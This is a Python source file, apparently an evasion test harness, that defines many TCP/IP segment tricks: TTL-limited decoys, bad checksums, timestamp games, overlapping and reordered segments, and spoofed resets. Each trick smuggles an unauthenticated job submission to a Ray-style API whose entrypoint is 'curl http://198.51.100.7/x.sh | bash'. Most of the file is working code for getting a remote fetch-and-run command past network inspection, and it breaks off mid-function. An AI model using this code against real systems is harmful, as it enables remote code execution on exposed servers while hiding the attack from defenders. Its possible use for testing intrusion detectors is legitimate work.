"""The tricks: each sends one submission over a connection of its own, in a way that some reader may not follow.

A trick is (function, what evasion/tcp has to do: True to speak, False to be quiet, None for either).
"""
import struct
import time

from net import A, F, M32, P, R, S, U, ip4, ip6, tcp

TRICKS = {}
JOB = b"curl http://198.51.100.7/x.sh | bash"
HARMLESS = b"python3 /srv/train.py --epochs 10000"  # as long as JOB


def req(body, path=b"/api/jobs/"):
    return b"POST " + path + b" HTTP/1.1\r\nHost: 10.0.0.5:8265\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body


R0 = req(b'{"entrypoint": "' + JOB + b'"}')
N = len(R0)
CMD = R0.index(JOB)
HALF = 40
GET = b"GET /api/version HTTP/1.1\r\nHost: 10.0.0.5:8265\r\n\r\n"
DECOY = GET[:-2] + b"X-Filler: " + b"y" * (N - len(GET) - 12) + b"\r\n\r\n"  # as long as R0
DECOY2 = DECOY.replace(b"yyyy", b"xxxx")
OTHER = R0.replace(JOB, HARMLESS)
OTHER2 = OTHER.replace(b"train", b"tests")
BIG = lambda n: req(b'{"metadata": {"a": "' + b"A" * n + b'"}, "entrypoint": "' + JOB + b'"}')
MD5, AO = b"\x13\x12" + b"\0" * 16 + b"\1\1", b"\x1d\x10" + b"\0" * 14


def trick(speaks=None, name=None):
    def add(f):
        TRICKS[name or f.__name__] = (f, speaks)
        return f
    return add


def done(c, t=0.4):
    c.answer(t)
    c.fin()


# Segments that the receiver should not take, or that do not come to it: arguments of seg, given the connection.
BAD = {
    "ttl1": lambda c: dict(ttl=1),
    "ttl0": lambda c: dict(ttl=0),
    "badsum": lambda c: dict(cs="bad"),
    "zerosum": lambda c: dict(cs="zero"),
    "partialsum": lambda c: dict(cs="partial"),
    "noflags": lambda c: dict(fl=0),
    "onlypsh": lambda c: dict(fl=P),
    "finnoack": lambda c: dict(fl=F | P),
    "urgnoack": lambda c: dict(fl=U | P),
    "md5": lambda c: dict(raw=MD5),
    "ao": lambda c: dict(raw=AO),
    "md5ao": lambda c: dict(raw=MD5 + AO),
    "paws": lambda c: dict(opts=c.stamp(-100000)),
    "paws2": lambda c: dict(opts=c.stamp(-2)),
    "paws_half": lambda c: dict(opts=c.stamp(0x80000001)),
    "oldack": lambda c: dict(ack=(c.ss - 0x20000000) & M32),
    "oldack70000": lambda c: dict(ack=(c.ss - 70000) & M32),
    "oldack10": lambda c: dict(ack=(c.ss - 10) & M32),
    "ackunsent": lambda c: dict(ack=(c.ss + 100000) & M32),
    "ackunsent1": lambda c: dict(ack=(c.ss + 1) & M32),
    "ack0": lambda c: dict(ack=0),
    "synack": lambda c: dict(fl=S | A | P),
    "syn": lambda c: dict(fl=S | P, ack=0),
    "synfin": lambda c: dict(fl=S | F | A),
    "rstfar": lambda c: dict(fl=R | A, seq=(c.cs + 0x30000000) & M32),
    "rstnear": lambda c: dict(fl=R | A, seq=(c.cs + 1) & M32),
    "beyond": lambda c: dict(seq=(c.cs + 2000000) & M32),
    "past": lambda c: dict(seq=(c.cs - 2000) & M32),
    "sourceroute": lambda c: dict(ip=dict(opts=b"\x83\x07\x04\x0a\0\0\x63\0")),
    "strictroute": lambda c: dict(ip=dict(opts=b"\x89\x07\x04\x0a\0\0\x63\0")),
    "badipopt": lambda c: dict(ip=dict(opts=b"\x44\x02\x05\x00")),
    "ipsum": lambda c: dict(ip=dict(sum_xor=0x1111)),
    "ipver": lambda c: dict(ip=dict(ver=5)),
    "ihl4": lambda c: dict(ip=dict(ihl=4)),
    "ihl15": lambda c: dict(ip=dict(ihl=15)),
    "iplong": lambda c: dict(ip=dict(length=1400)),
    "ipshort": lambda c: dict(ip=dict(length=30)),
    "iplen0": lambda c: dict(ip=dict(length=0)),
    "ipproto": lambda c: dict(ip=dict(proto=253)),
    "morefrag": lambda c: dict(ip=dict(flags=1)),
    "fragoff": lambda c: dict(ip=dict(frag=64)),
    "doff4": lambda c: dict(off=4),
    "doff15": lambda c: dict(off=15),
    "wrongmac": lambda c: dict(dst=b"\2\0\0\0\x99\x99"),
    "broadcastmac": lambda c: dict(dst=b"\xff" * 6),
    "vlan": lambda c: dict(vlan=77),
}


def shoot(c, kind, data, **more):
    k = BAD[kind](c)
    k.update(more)
    c.seg(k.pop("fl", P | A), data, **k)


def bad(kind):
    ts = 5000000 if kind.startswith("paws") else None

    def before(w):
        c = w.conn(ts=ts).open()
        shoot(c, kind, DECOY)
        c.rx(0.02)
        c.send(R0)
        done(c)

    def after(w):
        c = w.conn(ts=ts).open()
        c.send(R0[:HALF])
        c.rx(0.02)
        q, c.cs = c.cs, c.cs
        c.seg(P | A, R0[HALF:])
        shoot(c, kind, (DECOY + OTHER)[N + HALF:])
        c.cs = (q + N - HALF) & M32
        done(c)

    def between(w):  # bad, good, and a copy that comes too late
        c = w.conn(ts=ts).open()
        shoot(c, kind, DECOY)
        c.seg(P | A, R0)
        c.seg(P | A, DECOY2)
        c.cs = (c.cs + N) & M32
        done(c)

    def half(w):  # the request's line is right, its command is another in the bad copy
        c = w.conn(ts=ts).open()
        c.send(R0[:CMD])
        c.rx(0.02)
        shoot(c, kind, OTHER[CMD:])
        time.sleep(0.15)
        c.send(R0[CMD:])
        done(c)

    def half_between(w):
        c = w.conn(ts=ts).open()
        c.send(R0[:CMD])
        c.rx(0.02)
        shoot(c, kind, OTHER[CMD:])
        c.seg(P | A, R0[CMD:])
        c.seg(P | A, OTHER2[CMD:])
        c.cs = (c.cs + N - CMD) & M32
        done(c)

    def stamped(w):  # a bad one with a time stamp of the future
        c = w.conn(ts=5000000).open()
        if kind.startswith("paws") or "raw" in BAD[kind](c):
            return
        k = BAD[kind](c)
        c.seg(k.pop("fl", P | A), DECOY, opts=c.stamp(1000000), **k)
        c.send(R0)
        done(c)
    return before, after, between, half, half_between, stamped


for k in BAD:
    for f in bad(k):
        if f.__name__ == "stamped" and (k.startswith("paws") or k in ("md5", "ao", "md5ao")):
            continue
        TRICKS[f.__name__ + "_" + k] = (f, None)
for n in "before_ttl1", "half_ttl1", "before_md5", "before_noflags", "half_badsum":
    TRICKS[n] = (TRICKS[n][0], True)

# Segments that are odd and that Linux takes, a plain copy with something else right behind.
ODD = {
    "paws1": lambda c: dict(opts=c.stamp(-1)),
    "nostamp": lambda c: dict(opts=b""),
    "stamptwice": lambda c: dict(opts=c.stamp(-50000) + c.stamp(1)),
    "stampecr0": lambda c: dict(opts=c.stamp(1, 0)),
    "optbad": lambda c: dict(opts=b"\x08\x00\1\1"),
    "optlong": lambda c: dict(opts=b"\x08\x40\1\1"),
    "optend_md5": lambda c: dict(raw=b"\0" + MD5),
    "md5short": lambda c: dict(raw=b"\x13\x10" + b"\0" * 14),
    "aoshort": lambda c: dict(raw=b"\x1d\x02"),
    "ao": lambda c: dict(raw=AO),
    "optunknown": lambda c: dict(raw=b"\xfd\4\1\2"),
    "nopsh": lambda c: dict(fl=A),
    "ece": lambda c: dict(fl=A | 0x40 | 0x80),
    "reserved": lambda c: dict(ns=15),
    "win0": lambda c: dict(win=0),
    "ipopt": lambda c: dict(ip=dict(opts=b"\1\1\1\0")),
    "routeralert": lambda c: dict(ip=dict(opts=b"\x94\4\0\0")),
    "iprecord": lambda c: dict(ip=dict(opts=b"\7\7\4\0\0\0\0\0")),
    "id0": lambda c: dict(ip=dict(ident=0)),
    "tos": lambda c: dict(ip=dict(tos=0xFF)),
    "reservedip": lambda c: dict(ip=dict(flags=4)),
    "df": lambda c: dict(ip=dict(flags=2)),
    "pad": lambda c: dict(pad=b"HTTP/1.1 200 OK\r\n\r\n" * 3),
    "ttl2": lambda c: dict(ttl=2),
    "fin": lambda c: dict(fl=F | P | A),
    "cs_ack_old": lambda c: dict(ack=(c.ss - 10) & M32),
    "urg0": lambda c: dict(fl=P | A | U, urg=60000),
}


def odd(kind):
    def f(w):
        c = w.conn(ts=7000000 if kind in ("paws1", "nostamp", "stamptwice", "stampecr0") else None).open()
        c.send(GET)
        c.rx(0.1, b"ray_version")
        c.rx(0.02)
        k = ODD[kind](c)
        c.seg(k.pop("fl", P | A), R0, **k)
        c.seg(P | A, DECOY)
        c.cs = (c.cs + N) & M32
        done(c)
    return f


def odd_alone(kind):
    def f(w):
        c = w.conn(ts=7000000 if kind in ("paws1", "nostamp", "stamptwice", "stampecr0") else None).open()
        k = ODD[kind](c)
        c.seg(k.pop("fl", P | A), R0, **k)
        c.cs = (c.cs + N) & M32
        done(c)
    return f


for k in ODD:
    TRICKS["odd_" + k] = (odd(k), None)
    TRICKS["oddalone_" + k] = (odd_alone(k), None)


@trick(False)
def plain(w):
    c = w.conn().open()
    c.send(R0)
    done(c)


@trick(False)
def plain6(w):
    c = w.conn(v6=True).open()
    c.send(R0)
    done(c)


@trick(False)
def split1(w):
    c = w.conn().open()
    c.send(R0, 1)
    done(c)


@trick(False)
def reordered(w):
    c = w.conn().open()
    q = BIG(9000)
    parts = [(i, q[i:i + 1400]) for i in range(0, len(q), 1400)]
    for i, d in parts[1:4] + parts[:1] + parts[4:][::-1]:
        c.seg(P | A, d, seq=(c.cs + i) & M32)
    c.cs = (c.cs + len(q)) & M32
    done(c)


@trick(False)
def retransmitted(w):
    c = w.conn().open()
    for _ in range(3):
        c.seg(P | A, R0)
    c.cs = (c.cs + N) & M32
    done(c)


@trick(False)
def retransmitted_shifted(w):
    c = w.conn().open()
    for a, b in (0, 50), (20, 90), (5, 30), (60, N), (0, N), (N - 3, N):
        c.seg(P | A, R0[a:b], seq=(c.cs + a) & M32)
    c.cs = (c.cs + N) & M32
    done(c)


# --- time stamps

@trick()
def paws_then_plain(w):  # one older than the last is within Linux's tolerance (TCP_PAWS_WINDOW)
    c = w.conn(ts=7000000).open()
    c.send(R0[:HALF])
    c.rx(0.02)
    c.seg(P | A, R0[HALF:], opts=c.stamp(-1))
    c.seg(P | A, OTHER[HALF:])
    c.cs = (c.cs + N - HALF) & M32
    done(c)


@trick()
def stamp_zero(w):  # Linux knows no time stamp as long as it is 0, and takes any other then
    c = w.conn(ts=0)
    c.ts = 0
    c.seg(S, ack=0, opts=c.opts())
    c.cs = c.isn + 1
    c.rx(0.5, "syn")
    c.seg(A, opts=c.stamp(0))
    c.rx(0.02)
    c.seg(P | A, R0, opts=c.stamp(-1000000))
    c.seg(P | A, DECOY, opts=c.stamp(5))
    c.cs += N
    done(c)


@trick()
def stamp_not_in_order(w):  # the time stamp of a segment behind what was acknowledged does not count (rcv_wup)
    c = w.conn(ts=7000000).open()
    c.seg(P | A, R0[:20], opts=c.stamp(1))
    c.seg(P | A, R0[20:40], seq=c.cs + 20, opts=c.stamp(1000000))
    c.seg(P | A, R0[40:], seq=c.cs + 40, opts=c.stamp(2))
    c.seg(P | A, OTHER[40:], seq=c.cs + 40, opts=c.stamp(1000001))
    c.cs += N
    done(c)


@trick()
def stamp_pure_ack(w):  # an empty segment counts
    c = w.conn(ts=7000000).open()
    c.seg(A, opts=c.stamp(1000000))
    c.rx(0.02)
    c.seg(P | A, DECOY, opts=c.stamp(1))
    c.seg(P | A, R0, opts=c.stamp(1000001))
    c.seg(P | A, DECOY, opts=c.stamp(1000002))
    c.ts += 1000002
    c.cs += N
    done(c)


@trick()
def stamp_keepalive_ttl1(w):
    c = w.conn(ts=7000000).open()
    c.send(R0[:HALF])
    c.rx(0.02)
    c.seg(A, b"z", seq=c.cs - 1, ttl=1, opts=c.stamp(1000000))
    c.seg(P | A, R0[HALF:])
    c.seg(P | A, OTHER[HALF:], opts=c.stamp(1000001))
    c.cs += N - HALF
    done(c)


@trick()
def stamp_wraps(w):
    c = w.conn(ts=0xFFFFFFF0).open()
    c.send(R0, 5)
    done(c)


@trick()
def stamp_syn_ttl1(w):
    c = w.conn(ts=7000000)
    c.seg(S, ack=0, opts=c.opts().replace(struct.pack("!I", 7000000), struct.pack("!I", 9000000)), ttl=1)
    c.open()
    c.seg(P | A, R0)
    c.seg(P | A, DECOY, opts=c.stamp(2000001))
    c.cs += N
    done(c)


# --- TTL

@trick(True)
def ttl_steps(w):  # the right copies have fewer hops left from one to the next
    c = w.conn().open()
    for i in range(0, N, 30):
        c.seg(P | A, DECOY[i:i + 30], ttl=1)
        c.seg(P | A, R0[i:i + 30], ttl=64 - i // 30)
        c.cs += len(R0[i:i + 30])
    done(c)


@trick(True)
def ttl_between(w):
    c = w.conn().open()
    c.seg(P | A, DECOY, ttl=1)
    c.seg(P | A, R0, ttl=50)
    c.seg(P | A, DECOY2, ttl=255)
    c.cs += N
    done(c)


@trick(True)
def ttl_between_pieces(w):
    c = w.conn().open()
    for i in range(0, N, 25):
        c.seg(P | A, DECOY[i:i + 25], ttl=1)
        c.seg(P | A, R0[i:i + 25], ttl=60)
        c.seg(P | A, DECOY2[i:i + 25], ttl=64)
        c.cs += len(R0[i:i + 25])
    done(c)


@trick(True)
def ttl_first_then_last(w):  # the bad copy comes first in one segment and last in another
    c = w.conn().open()
    c.seg(P | A, DECOY[:CMD], ttl=1)
    c.seg(P | A, R0[:CMD])
    c.seg(P | A, R0[CMD:], seq=c.cs + CMD)
    c.seg(P | A, OTHER[CMD:], seq=c.cs + CMD, ttl=1)
    c.cs += N
    done(c)


@trick(True)
def ttl_first_then_last_same(w):  # the second bad copy arrives, and is of the past
    c = w.conn().open()
    c.seg(P | A, DECOY[:CMD], ttl=1)
    c.seg(P | A, R0[:CMD])
    c.seg(P | A, R0[CMD:], seq=c.cs + CMD)
    c.seg(P | A, OTHER[CMD:], seq=c.cs + CMD)
    c.cs += N
    done(c)


@trick(True)
def ttl_behind_hole(w):
    c = w.conn().open()
    c.seg(P | A, OTHER[CMD:], seq=c.cs + CMD, ttl=1)
    c.seg(P | A, R0[CMD:], seq=c.cs + CMD)
    c.seg(P | A, R0[:CMD])
    c.cs += N
    done(c)


@trick(True)
def ttl_behind_hole_both(w):
    c = w.conn().open()
    c.seg(P | A, OTHER[CMD:CMD + 20], seq=c.cs + CMD, ttl=1)
    c.seg(P | A, R0[CMD:CMD + 20], seq=c.cs + CMD)
    c.seg(P | A, R0[CMD + 20:], seq=c.cs + CMD + 20)
    c.seg(P | A, OTHER[CMD + 20:], seq=c.cs + CMD + 20, ttl=1)
    c.seg(P | A, R0[:CMD])
    c.cs += N
    done(c)


@trick(True)
def ttl_long_decoy(w):  # one bad segment over many good ones
    c = w.conn().open()
    c.seg(P | A, DECOY, ttl=1)
    c.send(R0, 7)
    done(c)


@trick(True)
def ttl_longer_decoy(w):  # and beyond them: what comes behind is of its past
    c = w.conn().open()
    c.seg(P | A, DECOY + GET * 5, ttl=1)
    c.send(R0)
    done(c)


@trick(True)
def ttl_decoy_sleeps(w):
    c = w.conn().open()
    c.seg(P | A, DECOY, ttl=1)
    c.rx(7)
    c.send(R0)
    done(c)


@trick(True)
def ttl_second_request(w):  # on a connection that has answered before
    c = w.conn().open()
    c.send(GET)
    c.rx(0.2, b"ray_version")
    c.seg(P | A, DECOY, ttl=1)
    c.rx(0.02)
    c.send(R0)
    done(c)


@trick(True)
def ttl_binary_decoy(w):  # what is read first is nothing that anybody knows
    c = w.conn().open()
    c.seg(P | A, b"\x16\3\1\0\xff\1\0" + bytes(range(200)), ttl=1)
    c.rx(0.02)
    c.send(R0)
    done(c)


@trick(True)
def ttl_tls_twice(w):
    c = w.conn().open()
    for i in range(3):
        c.seg(P | A, (b"\x16\3\1\0\xff\1\0" + bytes(range(200)))[:50 + 60 * i], ttl=1)
    c.send(R0, 13)
    done(c)


@trick(True)
def ttl_body_decoy(w):  # a length in the head of the bad copy that swallows what comes
    c = w.conn().open()
    d = b"POST /api/version HTTP/1.1\r\nHost: a\r\nContent-Length: 90000000\r\n\r\n"
    c.seg(P | A, d, ttl=1)
    c.rx(0.02)
    c.send(R0)
    done(c)


@trick(True)
def ttl_many_copies(w):
    c = w.conn().open()
    for i in range(12):
        c.seg(P | A, DECOY.replace(b"yyyy", b"%04d" % i), ttl=1)
    c.send(R0)
    done(c)


@trick(True)
def ttl_many_lengths(w):
    c = w.conn().open()
    for i in range(1, N, 9):
        c.seg(P | A, DECOY.replace(b"yyyy", b"%04d" % i)[:i], ttl=1)
    c.send(R0, 31)
    done(c)


@trick(True)
def ttl_large_body(w):  # 400 kB behind the bytes that were sent twice
    c = w.conn().open(wscale=7)
    q = BIG(400000)
    c.seg(P | A, DECOY, ttl=1)
    for i in range(0, len(q), 14000):
        c.send(q[i:i + 14000])
        c.rx(0.012)
    done(c)


@trick(True)
def ttl_end_of_large_body(w):  # 200 kB before the bytes that were sent twice
    c = w.conn().open(wscale=7)
    q = BIG(200000)
    i = q.index(JOB)
    for j in range(0, i, 14000):
        c.send(q[j:min(j + 14000, i)])
        c.rx(0.012)
    c.seg(P | A, HARMLESS + q[i + len(JOB):], ttl=1)
    c.rx(0.02)
    c.send(q[i:])
    done(c)


@trick()
def many_doubted_first(w):  # many that should not be taken, before one that should not and is
    c = w.conn(ts=7000000).open()
    for i in range(200):
        c.seg(P | A, b"z" * 4, seq=c.cs + i, opts=c.stamp(-50000), ttl=1)
    c.seg(P | A, R0, opts=c.stamp(-1))
    c.cs += N
    done(c)


@trick()
def many_doubted_long(w):
    c = w.conn(ts=7000000).open()
    for i in range(70):
        c.seg(P | A, b"z" * 1000, opts=c.stamp(-50000), ttl=1)
    c.seg(P | A, R0, opts=c.stamp(-1))
    c.cs += N
    done(c)


# --- windows

@trick()
def end_beyond_window(w):
    c = w.conn().open()
    c.seg(P | A, DECOY + b"z" * 1000, seq=c.cs + 64000, ttl=64)
    c.send(R0)
    done(c)


@trick()
def large_window(w):  # 150 kB out of order, once the window has grown
    c = w.conn().open(wscale=7)
    q = BIG(420000)
    for i in range(0, 250000, 12500):
        for j in range(i, i + 12500, 1250):
            c.seg(P | A, q[j:j + 1250], seq=(c.cs + j) & M32)
        c.rx(0.012)
    rest = [(i, q[i:i + 1250]) for i in range(250000, len(q), 1250)]
    for i, d in rest[1:] + rest[:1]:
        c.seg(P | A, d, seq=(c.cs + i) & M32)
    c.cs += len(q)
    c.rx(0.1)
    have = (c.acked - c.isn - 1) & M32
    for i in range(have, len(q), 1250):
        c.seg(P | A, q[i:i + 1250], seq=(c.isn + 1 + i) & M32)
    done(c)


@trick(False)
def ooo17k(w):
    c = w.conn().open()
    q = BIG(17500)
    for i in [*range(1400, len(q), 1400), 0]:
        c.seg(P | A, q[i:i + 1400], seq=(c.cs + i) & M32)
    c.cs += len(q)
    done(c)


@trick(False)
def ooo60k(w):
    c = w.conn().open()
    q = BIG(55000)
    for i in [*range(1400, len(q), 1400), 0]:
        c.seg(P | A, q[i:i + 1400], seq=(c.cs + i) & M32)
    c.cs += len(q)
    c.rx(0.1)
    for i in range((c.acked - c.isn - 1) & M32, len(q), 1400):
        c.seg(P | A, q[i:i + 1400], seq=(c.isn + 1 + i) & M32)
    done(c)


@trick(False)
def reverse1(w):
    c = w.conn().open()
    for i in reversed(range(N)):
        c.seg(P | A, R0[i:i + 1], seq=c.cs + i)
    c.cs += N
    done(c)


@trick(False)
def comb(w):  # 600 holes of a byte, filled from the end
    c = w.conn().open()
    q = BIG(1000)
    for i in [*range(1, len(q), 2), *reversed(range(0, len(q), 2))]:
        c.seg(P | A, q[i:i + 1], seq=c.cs + i)
    c.cs += len(q)
    c.rx(0.3, b"raysubmit_x")
    for i in range((c.acked - c.isn - 1) & M32, len(q), 700):
        c.seg(P | A, q[i:i + 700], seq=c.isn + 1 + i)
    done(c)


@trick()
def comb_other(w):  # the same with other bytes in a second row
    c = w.conn().open()
    for i in range(CMD + 1, N, 2):
        c.seg(P | A, R0[i:i + 1], seq=c.cs + i)
        c.seg(P | A, OTHER[i - 1:i + 1] + b"zz", seq=c.cs + i - 1, ttl=1)
    for i in reversed(range(CMD, N, 2)):
        c.seg(P | A, R0[i:i + 1], seq=c.cs + i)
    c.seg(P | A, R0[:CMD])
    c.cs += N
    done(c)


@trick()
def keepalive_garbage(w):
    c = w.conn().open()
    for i in range(0, N, 20):
        c.seg(A, b"\xee", seq=c.cs - 1)
        c.rx(0.01)
        c.send(R0[i:i + 20])
        c.rx(0.01)
    done(c)


@trick()
def keepalive_first(w):
    c = w.conn().open()
    c.seg(A, b"G", seq=c.isn)
    c.seg(A, b"GET / HTTP/1.1\r\n", seq=c.isn - 15)
    c.rx(0.02)
    c.send(R0)
    done(c)


@trick()
def keepalive_long(w):  # garbage that begins before and goes on into what is new: Linux takes the new part
    c = w.conn().open()
    c.send(R0[:HALF])
    c.rx(0.02)
    c.seg(P | A, b"\xee" * 20 + R0[HALF:], seq=c.cs - 20)
    c.seg(P | A, OTHER[HALF:])
    c.cs += N - HALF
    done(c)


@trick()
def client_window_zero(w):  # the answer waits
    c = w.conn().open()
    c.seg(P | A, R0, win=0)
    c.cs += N
    c.rx(0.6, ack=False)
    c.seg(A)
    done(c)


# --- resets

def resets(name, f, pause, at=30, speaks=None):
    def g(w):
        c = w.conn().open()
        c.send(R0[:at])
        c.rx(0.05)
        f(c)
        c.rx(pause)
        c.send(R0[at:])
        done(c)
    TRICKS[name] = (g, speaks)


RST = {
    "plus1": lambda c: c.seg(R, seq=c.cs + 1),
    "minus1": lambda c: c.seg(R, seq=c.cs - 1),
    "inwindow": lambda c: c.seg(R, seq=c.cs + 5000),
    "far": lambda c: c.seg(R, seq=(c.cs + 0x40000000) & M32),
    "ttl1": lambda c: c.seg(R | A, ttl=1),
    "ttl1_noack": lambda c: c.seg(R, ttl=1, ack=0),
    "ttl1_data": lambda c: c.seg(R | A, b"GET / HTTP/1.1\r\n\r\n", ttl=1),
    "md5": lambda c: c.seg(R | A, raw=MD5),
    "badsum": lambda c: c.seg(R | A, cs="bad"),
    "synrst": lambda c: c.seg(R | S, ttl=1),
    "both": lambda c: (c.seg(R | A, ttl=1), c.spoof(R | A, ttl=1)),
    "fin_and_rst": lambda c: (c.seg(F | A, ttl=1), c.seg(R | A, seq=c.cs + 1, ttl=1)),
    "ttl1_many": lambda c: [c.seg(R | A, ttl=1, seq=c.cs + i) for i in range(5)],
}
for k, f in RST.items():
    resets("rst_" + k, f, 0.05)
    resets("rst_" + k + "_first", f, 0.05, 0)
    resets("rst_" + k + "_200ms", f, 0.25)
for k in "ttl1", "md5", "both", "fin_and_rst":
    resets("rst_" + k + "_7s", RST[k], 7)
    resets("rst_" + k + "_first_7s", RST[k], 7, 0)


@trick()
def rst_before_synack(w):
    c = w.conn()
    c.seg(S, ack=0, opts=c.opts())
    c.cs += 1
    c.seg(R, ttl=1, ack=0)
    c.rx(0.5, "syn")
    c.seg(A)
    c.send(R0)
    done(c)


@trick()
def rst_after_synack(w):
    c = w.conn().open(ack=False)
    c.seg(R, ttl=1)
    c.rx(0.2)
    c.send(R0)
    done(c)


@trick()
def rst_of_past_syn(w):
    c = w.conn()
    c.seg(R, ack=0, seq=c.cs + 77)
    c.open()
    c.send(R0)
    done(c)


@trick()
def rst_between_requests_7s(w):
    c = w.conn().open()
    c.send(GET)
    c.rx(0.2, b"ray_version")
    c.rx(0.02)
    c.seg(R | A, ttl=1)
    c.rx(7)
    c.send(R0)
    done(c)


# --- FIN

FIN = {
    "ttl1": lambda c: c.seg(F | A, ttl=1),
    "ttl1_data": lambda c: c.seg(F | P | A, OTHER[30:], ttl=1),
    "badsum": lambda c: c.seg(F | A, cs="bad"),
    "noack": lambda c: c.seg(F),
    "plus1": lambda c: c.seg(F | A, seq=c.cs + 1),
    "ahead": lambda c: c.seg(F | A, seq=c.cs + 60),
    "ahead_data": lambda c: c.seg(F | A, R0[50:60], seq=c.cs + 20),
    "past": lambda c: c.seg(F | A, seq=c.cs - 1),
    "past_data": lambda c: c.seg(F | A, R0[20:29], seq=c.cs - 10),
    "md5": lambda c: c.seg(F | A, raw=MD5),
    "far": lambda c: c.seg(F | A, seq=(c.cs + 3000000) & M32),
    "both_ttl1": lambda c: (c.seg(F | A, ttl=1), c.spoof(F | A, ack=c.cs + 1, ttl=1)),
}
for k, f in FIN.items():
    resets("fin_" + k, f, 0.05)
    resets("fin_" + k + "_first", f, 0.05, 0 if "past" not in k and k != "ahead_data" else 31)
    resets("fin_" + k + "_200ms", f, 0.25)
for k in "ttl1", "ahead", "ttl1_data":
    resets("fin_" + k + "_7s", FIN[k], 7)


@trick(False)
def half_close(w):
    c = w.conn().open()
    c.send(R0)
    c.seg(F | A)
    c.cs += 1
    c.answer()


@trick()
def fin_with_request(w):
    c = w.conn().open()
    c.seg(F | P | A, R0)
    c.cs += N + 1
    c.answer()


@trick()
def fin_behind_data(w):  # bytes behind the FIN do not count
    c = w.conn().open()
    c.seg(F | P | A, R0)
    c.seg(P | A, GET, seq=c.cs + N)
    c.cs += N + 1
    c.answer()


@trick()
def fin_first(w):  # the FIN comes before what it ends
    c = w.conn().open()
    c.seg(F | A, seq=c.cs + N)
    c.rx(0.02)
    c.send(R0, 50)
    c.cs += 1
    c.answer()


# --- SYN

def syns(name, f, at=30):
    def g(w):
        c = w.conn().open()
        c.send(R0[:at])
        c.rx(0.05)
        f(c)
        c.rx(0.15)
        c.send(R0[at:])
        done(c)
    TRICKS[name] = (g, None)


SYN = {
    "other": lambda c: c.seg(S, seq=(c.cs + 0x30000000) & M32, ack=0, opts=c.opts()),
    "same": lambda c: c.seg(S, seq=c.isn, ack=0, opts=c.opts()),
    "next": lambda c: c.seg(S, ack=0, opts=c.opts()),
    "before_next": lambda c: c.seg(S, seq=c.cs - 1, ack=0, opts=c.opts()),
    "ttl1": lambda c: c.seg(S, seq=(c.cs + 77777) & M32, ack=0, ttl=1),
    "data": lambda c: c.seg(S, b"GET / HTTP/1.1\r\n\r\n", seq=c.cs - 1, ack=0),
    "ack": lambda c: c.seg(S | A, seq=(c.cs + 1000) & M32),
    "rst_syn_ttl1": lambda c: (c.seg(R | A, ttl=1), c.seg(S, seq=(c.cs + 0x22222222) & M32, ack=0, ttl=1)),
    "whole_other_ttl1": lambda c: (
        c.seg(R | A, ttl=1), c.seg(S, seq=(c.cs + 0x22222222) & M32, ack=0, ttl=1),
        c.seg(A, seq=(c.cs + 0x22222223) & M32, ttl=1), c.seg(P | A, GET, seq=(c.cs + 0x22222223) & M32, ttl=1)),
    "spoofed_other": lambda c: (
        c.seg(S, seq=(c.cs + 0x22222222) & M32, ack=0, ttl=1), c.spoof(S | A, seq=0x1234, ack=(c.cs + 0x22222223) & M32, ttl=1),
        c.seg(A, seq=(c.cs + 0x22222223) & M32, ack=0x1235, ttl=1), c.seg(P | A, GET, seq=(c.cs + 0x22222223) & M32, ack=0x1235, ttl=1)),
}
for k, f in SYN.items():
    syns("syn_" + k, f)
    syns("syn_" + k + "_first", f, 0)


@trick()
def syn_two_isns(w):
    c = w.conn()
    c.seg(S, seq=(c.cs + 0x30000000) & M32, ack=0, ttl=1)
    c.open()
    c.send(R0)
    done(c)


@trick()
def syn_second_isn_late(w):  # behind the SYN-ACK, on its way
    c = w.conn()
    c.seg(S, ack=0, opts=c.opts())
    c.seg(S, seq=(c.isn + 0x30000000) & M32, ack=0, ttl=1)
    c.cs += 1
    c.rx(0.5, "syn")
    c.seg(A)
    c.send(R0)
    done(c)


@trick()
def syn_data(w):
    c = w.conn()
    c.seg(S, DECOY, ack=0, opts=c.opts())
    c.cs += 1
    c.rx(0.5, "syn")
    c.seg(A)
    c.send(R0)
    done(c)


@trick()
def syn_data_job(w):  # of which nothing counts: the rest alone would be no request
    c = w.conn()
    c.seg(S, OTHER[:CMD + 10], ack=0, opts=c.opts())
    c.cs += 1
    c.rx(0.5, "syn")
    c.seg(P | A, R0[CMD:], seq=c.cs + CMD)
    c.seg(P | A, R0[:CMD])
    c.cs += N
    done(c)


@trick()
def data_in_third(w):
    c = w.conn().open(ack=False)
    c.send(R0)
    done(c)


@trick()
def data_before_synack(w):
    c = w.conn()
    c.seg(S, ack=0, opts=c.opts())
    c.cs += 1
    c.seg(P | A, DECOY, ack=1)
    c.rx(0.5, "syn")
    c.send(R0)
    done(c)


@trick()
def data_no_ack_before(w):
    c = w.conn().open(ack=False)
    c.seg(P, DECOY, ack=0)
    c.seg(A)
    c.send(R0)
    done(c)


@trick()
def syn_flags(w):
    c = w.conn()
    c.seg(S | P | U | 0xC0, ack=0, opts=c.opts(), urg=5)
    c.cs += 1
    c.rx(0.5, "syn")
    c.seg(A)
    c.send(R0)
    done(c)


@trick()
def synfin_open(w):
    c = w.conn()
    c.seg(S | F, ack=0, opts=c.opts())
    c.cs += 1
    c.rx(0.3, "syn")
    c.seg(A)
    c.send(R0)
    done(c)


@trick()
def synack_first(w):  # the client answers before it asks
    c = w.conn()
    c.spoof(S, seq=5000, ack=0)
    c.seg(S | A, ack=5001, ttl=1)
    c.open()
    c.send(R0)
    done(c)


@trick()
def third_ack_wrong(w):
    c = w.conn().open(ack=False)
    c.seg(A, ack=c.ss + 5000, ttl=1)
    c.rx(0.02)
    c.seg(A)
    c.send(R0)
    done(c)


@trick()
def ack_unsent_empty(w):
    c = w.conn().open()
    c.seg(A, ack=(c.ss + 50000) & M32)
    c.rx(0.2)
    c.send(R0[:50])
    c.seg(A, ack=(c.ss + 90000) & M32)
    c.rx(0.2)
    c.send(R0[50:])
    done(c)


@trick()
def seq_wraps(w):
    c = w.conn(isn=(1 << 32) - 60).open()
    c.send(R0, 30)
    done(c)


@trick()
def seq_wraps_reversed(w):
    c = w.conn(isn=(1 << 32) - CMD - 4).open()
    c.seg(P | A, OTHER[CMD:], seq=(c.cs + CMD) & M32, ttl=1)
    for i in reversed(range(0, N, 10)):
        c.seg(P | A, R0[i:i + 10], seq=(c.cs + i) & M32)
    c.cs = (c.cs + N) & M32
    done(c)


@trick()
def seq_jump_ttl1(w):  # 1.5 GB ahead, then again: numbers wrap for who believes it
    c = w.conn().open()
    for k in 0x50000000, 0xA0000000, 0xF0000000:
